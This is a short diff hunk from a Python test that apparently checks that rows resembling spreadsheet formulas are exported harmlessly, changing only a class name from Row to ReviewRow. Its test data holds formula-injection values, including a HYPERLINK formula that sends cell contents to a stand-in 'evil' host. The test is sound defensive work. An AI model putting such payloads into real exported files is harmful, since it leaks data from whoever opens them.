@@ -488,7 +488,7 @@ def test_a_row_that_looks_like_a_formula_is_exported_harmless_and_corrected_by_i
     ids, label = ["=cmd()", "-2+3", "'=x", "r1"], "=HYPERLINK(1)"
     review.export(
         [
-            review.Row(id=row_id, given=(label, "b"), text='=HYPERLINK("http://evil?x="&A1)')
+            review.ReviewRow(id=row_id, given=(label, "b"), text='=HYPERLINK("http://evil?x="&A1)')
             for row_id in ids
         ],
         path,
